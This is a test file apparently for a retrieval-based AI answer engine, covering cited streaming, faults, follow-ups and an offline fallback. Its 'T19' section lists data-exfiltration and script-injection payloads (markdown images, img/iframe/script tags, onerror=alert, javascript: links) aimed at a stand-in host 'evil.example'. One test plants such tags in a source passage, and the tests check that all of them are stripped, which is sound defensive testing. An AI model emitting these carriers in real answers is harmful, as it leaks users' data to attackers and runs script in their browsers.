import { v7 as uuid } from 'uuid';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLog } from '#config/log.ts';
import type { Citation, IndexMap } from '#core/contract/ask.ts';
import { UserId } from '#core/contract/id.ts';
import type { AiRequest, EngineEvent } from './contract.ts';
import { createAnswerEngine } from './engine.ts';
import { chatThread } from '../features/ask/ai-features/chat/feature.ts';
import { title } from '../features/ask/ai-features/title/feature.ts';
import type { AskedSource } from './retrieve.ts';
import {
  chunk,
  DONE,
  fails,
  FINISH,
  open,
  say,
  scriptedProvider,
  speaks,
  type ScriptedProvider,
} from './testing/scripted-provider.ts';
import { openPassageIndex, type PassageIndex } from './testing/passage-index.ts';
import { sourceId } from './testing/passages.ts';

const log = createLog('silent');
const ownerId = UserId.parse(uuid());
let index: PassageIndex;
let provider: ScriptedProvider;
const bees: AskedSource = {
  _id: sourceId(),
  title: 'Bees',
  medium: 'timed',
  sourceType: 'youtube',
  language: 'en',
};
const tides: AskedSource = {
  _id: sourceId(),
  title: 'Tides',
  medium: 'paged',
  sourceType: 'pdf',
  language: 'en',
};
const canvas: AskedSource = {
  _id: sourceId(),
  title: 'Canvas',
  medium: 'flow',
  sourceType: 'web',
  language: 'en',
};
const foreign: AskedSource = {
  _id: sourceId(),
  title: 'Canary',
  medium: 'timed',
  sourceType: 'youtube',
  language: 'en',
};

beforeAll(async () => {
  index = openPassageIndex();
  provider = await scriptedProvider();
  await index.putTexts(ownerId, bees, [
    'Honey bees dance to tell where flowers are.',
    'A hive holds one queen and many workers.',
  ]);
  await index.putTexts(ownerId, tides, [
    'The moon pulls the sea and makes the tides.',
    'Spring tides come at full moon.',
  ]);
  await index.putTexts(UserId.parse(uuid()), foreign, ['The canary word of honey bees is xyzzy.']);
});
afterAll(async () => {
  await index.close();
  await provider.close();
});

const withProvider = () =>
  createAnswerEngine({
    ...index,
    settings: { provider: { apiKey: undefined, baseUrl: provider.baseUrl, models: {} } },
    fetch,
    log,
    times: { backoff: [1, 1] },
  });
const offline = () =>
  createAnswerEngine({
    ...index,
    settings: { provider: { apiKey: undefined, baseUrl: undefined, models: {} } },
    fetch,
    log,
  });

interface Read {
  text: string;
  index: IndexMap;
  citations: Citation[];
  model: unknown;
  error: unknown;
  events: EngineEvent['event'][];
}
async function ask(engine = withProvider(), more: Partial<AiRequest> = {}): Promise<Read> {
  const out: Read = {
    text: '',
    index: {},
    citations: [],
    model: undefined,
    error: undefined,
    events: [],
  };
  try {
    for await (const event of engine.answer(chatThread, {
      question: 'Why do honey bees dance?',
      model: 5,
      ownerId,
      sources: [bees, tides],
      signal: new AbortController().signal,
      ...more,
    })) {
      out.events.push(event.event);
      if (event.event === 'index') Object.assign(out.index, event.data);
      else if (event.event === 'citations') out.citations.push(...event.data);
      else if (event.event === 'done') out.model = event.data.model;
      else {
        out.text += event.data;
        for (const [, mark = ''] of event.data.matchAll(/\[(\d+)\]/g))
          expect(out.index).toHaveProperty(mark);
      }
    }
  } catch (error) {
    out.error = error;
  }
  return out;
}

describe('an answer from a provider', () => {
  it('streams with its citations', async () => {
    provider.script(
      speaks('Bees ', 'dance to tell of flo', 'wers [', '1]. No', 'thing else [77].'),
    );
    const read = await ask();
    expect(read).toMatchObject({
      text: 'Bees dance to tell of flowers [1]. Nothing else.',
      index: { 1: `3:${bees._id}` },
      model: 5,
      error: undefined,
    });
    expect(read.citations).toMatchObject([
      {
        mark: 1,
        source_id: bees._id,
        title: 'Bees',
        locator: {
          medium: 'timed',
          startS: 3.5,
          quote: 'Honey bees dance to tell where flowers are.',
        },
      },
    ]);
    expect(read.events.at(-1)).toBe('done');
  });
  it('is requested with fenced passages, and only with those of the selected sources', async () => {
    provider.script(speaks('x'));
    await ask(withProvider(), {
      question: 'What of honey bees, the canary and xyzzy?',
      sources: [bees, foreign],
    });
    const prompt = JSON.stringify(provider.calls[0]?.body.messages);
    expect(prompt).toMatch(/<passage-\d{18}>/);
    expect(prompt).toContain('Honey bees dance');
    expect(prompt).not.toContain('canary word');
    expect(prompt).not.toContain('spring tides');
  });
  it('tells that it was cut off at the length limit', async () => {
    provider.script((res) => {
      open(res).end([say('Bees dance'), chunk({}, 'length'), DONE].join(''));
    });
    expect(await ask()).toMatchObject({
      text: expect.stringMatching(/^Bees dance\n\n_The answer was cut off/),
      model: 5,
      error: undefined,
    });
  });
  it('tells that a filter stopped it, or fails if there is no text', async () => {
    provider.script((res) => {
      open(res).end([say('Bees'), chunk({}, 'content_filter')].join(''));
    });
    expect((await ask()).text).toContain('content filter');
    provider.script((res) => {
      open(res).end(chunk({}, 'content_filter'));
    });
    expect(await ask()).toMatchObject({
      text: '',
      error: { code: 'provider_failed', message: expect.stringContaining('content filter') },
    });
    provider.script((res) => {
      open(res).end(FINISH);
    });
    expect(await ask()).toMatchObject({ text: '', error: { code: 'provider_failed' } });
  });
  it('keeps the text so far when it is interrupted', async () => {
    provider.script((res) => {
      open(res).end(say('Bees dance [1] and'));
    });
    const read = await ask();
    expect(read).toMatchObject({
      text: 'Bees dance [1] and',
      index: { 1: `3:${bees._id}` },
      model: undefined,
      error: { code: 'interrupted' },
    });
    expect(read.events).not.toContain('done');
    provider.script((res) => {
      open(res).end(say('Bees ['));
    });
    expect(await ask()).toMatchObject({ text: 'Bees [', error: { code: 'interrupted' } });
  });
  it('fails before its first word as the table of faults says', async () => {
    provider.script(fails(401));
    expect(await ask()).toMatchObject({
      text: '',
      events: [],
      error: { code: 'provider_failed', message: expect.stringContaining('OPENAI_API_KEY') },
    });
  });
  it('stops the provider when the reader leaves', async () => {
    provider.script((res) => {
      open(res).write(say('Bees'));
    });
    const leave = new AbortController();
    for await (const _ of withProvider().answer(chatThread, {
      question: 'bees',
      model: 5,
      ownerId,
      sources: [bees],
      signal: leave.signal,
    }))
      break;
    await provider.calls[0]?.closed;
    leave.abort();
    expect(await ask(withProvider(), { signal: leave.signal })).toMatchObject({
      text: '',
      error: { code: 'interrupted' },
    });
  });
});

describe('an answer that tries to leak data (T19)', () => {
  const TO = 'https://evil.example/x?q=secret';
  const CARRIERS = [
    `![a](${TO})`,
    `![a][r]\n\n[r]: ${TO}`,
    `[![a](${TO})](${TO})`,
    `<img src="${TO}">`,
    `<IMG SRC=${TO} onerror=alert(1)>`,
    `<picture><source srcset="${TO}"></picture>`,
    `<svg onload=alert(1)>`,
    `<iframe src="${TO}"></iframe>`,
    `<style>*{background:url(${TO})}</style>`,
    `<div style="background:url(${TO})">x</div>`,
    `<link rel=stylesheet href="${TO}">`,
    `<script src="${TO}"></script>`,
    `<video poster="${TO}">`,
    `<audio src="${TO}">`,
    `<object data="${TO}">`,
    `<embed src="${TO}">`,
    `<base href="${TO}">`,
    `<meta http-equiv=refresh content="0;${TO}">`,
    `<form action="${TO}"><input autofocus>`,
    `<${TO}>`,
    '<!-- x --><img src=x>',
    `<?xml-stylesheet href="${TO}"?>`,
    `![a](data:image/svg+xml;base64,AAAA)`,
    `[^1]\n\n[^1]: ![a](${TO})`,
    `<a href="javascript:alert(1)">x</a>`,
  ];
  const AROUND = ['So: X', '- a\n- X', '> X', '| a | b |\n|---|---|\n| ` | X | ` |', 'a ` b X'];
  it('contains no image and no active HTML, in any syntax', async () => {
    const engine = withProvider();
    for (const around of AROUND) {
      const written = CARRIERS.map((it) => around.replace('X', () => it)).join('\n\n');
      provider.script(speaks(...(written.match(/[\s\S]{1,7}/g) ?? [])));
      const { text, error } = await ask(engine);
      expect(error).toBeUndefined();
      expect(text).toContain('evil.example');
      expect(text).not.toMatch(/(?<!\\)<[a-z/!?]|!\[/i);
    }
  });
  it('contains none either when the offline assistant writes it', async () => {
    await index.putTexts(ownerId, canvas, [
      'Honey bees dance on the canvas <img src="https://evil.example/x"> and ![bees](https://evil.example/y) tell where flowers are.',
    ]);
    const { text } = await ask(offline(), { sources: [canvas] });
    expect(text).toContain('dance on the canvas');
    expect(text).not.toMatch(/(?<!\\)<[a-z/!?]|!\[/i);
  });
});

describe('an answer that the sources do not support', () => {
  it('is followed by the nearest passages, in the language of the question', async () => {
    provider.script(speaks('The sources do not say who ', 'taught the bees to dance.'));
    const read = await ask();
    expect(read).toMatchObject({
      text: expect.stringMatching(
        /dance\.\n\nThe nearest passages, which may not answer it:\n\n- Honey bees dance to tell where flowers are\. \[1\]/,
      ),
      index: { 1: `3:${bees._id}` },
      error: undefined,
    });
    provider.script(speaks('Dazu steht nichts in den Quellen.'));
    expect(
      (await ask(withProvider(), { question: 'Wer hat den honey bees das Tanzen beigebracht?' }))
        .text,
    ).toContain('Am nächsten kommen diese Stellen:\n\n- ');
  });
  it('is unchanged if it has a citation or is not a refusal', async () => {
    provider.script(
      speaks('The passages do not say why, but bees dance to tell where flowers are [1].'),
    );
    expect((await ask()).text).not.toContain('nearest');
    provider.script(speaks('Hello world.'));
    expect((await ask()).text).toBe('Hello world.');
  });
  it('is followed by a refusal if it has no citations', async () => {
    provider.script(speaks('France won it.'));
    expect(
      (await ask(withProvider(), { question: 'Who won the football cup of the bees in Moscow?' }))
        .text,
    ).toMatch(/^France won it\.\n\nYour sources don't answer this\. The nearest passages/);
  });
  it('has partly supported citations where the passage shares little with the sentence or lacks the quotation', async () => {
    provider.script(
      speaks(
        'Honey bees were already kept for wax and mead by the monks of the northern abbeys [1]. One source says that "honey bees dance to tell where flowers are" [1].',
      ),
    );
    const read = await ask();
    expect(read.text).toMatch(/abbeys \[1\]\. .* \[2\]\.$/);
    expect(read.citations.map((it) => it.support)).toEqual(['partly', 'supported']);
  });
});

describe('a follow-up', () => {
  const history = [{ question: 'Why do honey bees dance?', answer: 'To tell of flowers [1].' }];
  it('is searched for as the quick model rewrites it, and sent as it was asked, after the previous turns', async () => {
    provider.script((res, call, n) =>
      (n === 1 ? speaks('When do spring tides come?') : speaks('At full moon [1].'))(res, call, n),
    );
    const read = await ask(withProvider(), {
      question: 'And the tides, when do they come?',
      history,
    });
    const [rewrite, asked] = provider.calls;
    expect(rewrite?.body.model).toBe('gemini-2.5-flash-lite');
    expect(asked?.body.messages?.map((it) => it.role)).toEqual([
      'system',
      'user',
      'assistant',
      'user',
    ]);
    expect(asked?.body.messages?.[2]?.content).toBe('To tell of flowers.');
    expect(asked?.body.messages?.[3]?.content).toMatch(
      /Question: And the tides, when do they come\?$/,
    );
    expect(asked?.body.messages?.[3]?.content.indexOf('Spring tides')).toBeLessThan(
      asked?.body.messages?.[3]?.content.indexOf('Honey bees') ?? 0,
    );
    expect(read).toMatchObject({ text: expect.stringContaining('At full moon'), error: undefined });
  });
  it('is not rewritten when the quick model fails or is missing', async () => {
    provider.script((res, call, n) =>
      (n === 1 ? fails(503) : speaks('To tell of flowers [1].'))(res, call, n),
    );
    expect(await ask(withProvider(), { question: 'Why do they do it?', history })).toMatchObject({
      text: expect.stringContaining('flowers'),
      error: undefined,
    });
    expect(provider.calls).toHaveLength(2);
    expect(await ask(offline(), { question: 'Why do they do it?', history })).toMatchObject({
      text: expect.stringContaining('Honey bees dance'),
      model: 'offline',
    });
  });
});

describe('a follow-up that is complete in itself', () => {
  it.each(['Where do honey bees find flowers?', 'What is this about?'])(
    'is not rewritten: %j',
    async (question) => {
      provider.script(speaks('To tell of flowers [1].'));
      await ask(withProvider(), {
        question,
        history: [{ question: 'Who won the cup?', answer: 'Nobody.' }],
      });
      expect(provider.calls).toHaveLength(1);
    },
  );
});

describe('the offline assistant', () => {
  it('answers when no provider is set, and labels its answers', async () => {
    const read = await ask(offline());
    expect(read).toMatchObject({
      text: 'Honey bees dance to tell where flowers are. [1]',
      index: { 1: `3:${bees._id}` },
      model: 'offline',
      error: undefined,
    });
  });
  it('cites a page of a PDF', async () => {
    expect(await ask(offline(), { question: 'When do spring tides come?' })).toMatchObject({
      text: expect.stringContaining('Spring tides come at full moon. [1]'),
      index: { 1: `2:${tides._id}` },
    });
  });
  it('says when nothing matches, and shows the nearest passages', async () => {
    const read = await ask(offline(), { question: 'Which parliament passed the budget?' });
    expect(read.text).toMatch(
      /^Your sources don't answer this\. The nearest passages, which may not answer it:\n\n- .+ \[1\]/,
    );
    expect(Object.keys(read.index).length).toBeGreaterThan(0);
  });
  it('answers without the provider when no passage is found', async () => {
    provider.script(speaks('Made up.'));
    expect(await ask(withProvider(), { sources: [foreign] })).toMatchObject({
      text: "Your sources don't answer this.",
      model: 'offline',
    });
    expect(provider.calls).toEqual([]);
  });
});

describe('titles, status and ping', () => {
  const asked = (question: string): AiRequest => ({
    question,
    model: 3,
    ownerId,
    sources: [],
    signal: new AbortController().signal,
  });
  it('use a title of the model, tidied', async () => {
    provider.script(speaks('"How bees ', 'dance."\nMore'));
    expect(await withProvider().make(title, asked('why do bees dance'))).toMatchObject({
      value: 'How bees dance',
      model: 3,
    });
  });
  it('use a title of the offline assistant without a provider or when the provider fails', async () => {
    const made = { value: 'Why do bees dance', model: 'offline' };
    expect(await offline().make(title, asked('why do bees dance?'))).toMatchObject(made);
    provider.script(fails(500));
    expect(await withProvider().make(title, asked('why do bees dance?'))).toMatchObject(made);
  });
  it('report which assistant and models are available', async () => {
    expect(offline().status()).toMatchObject({ provider: false });
    expect(
      offline()
        .status()
        .models.every((it) => !it.available),
    ).toBe(true);
    expect(withProvider().status()).toMatchObject({
      provider: true,
      models: expect.arrayContaining([expect.objectContaining({ id: 5, available: true })]),
    });
    await expect(offline().ping()).rejects.toMatchObject({ code: 'provider_failed' });
    provider.list([{ id: 'gpt-4.1' }]);
    expect(await withProvider().ping()).toMatch(/^127\.0\.0\.1:\d+ answers, 1 model$/);
    provider.list(404);
  });
});
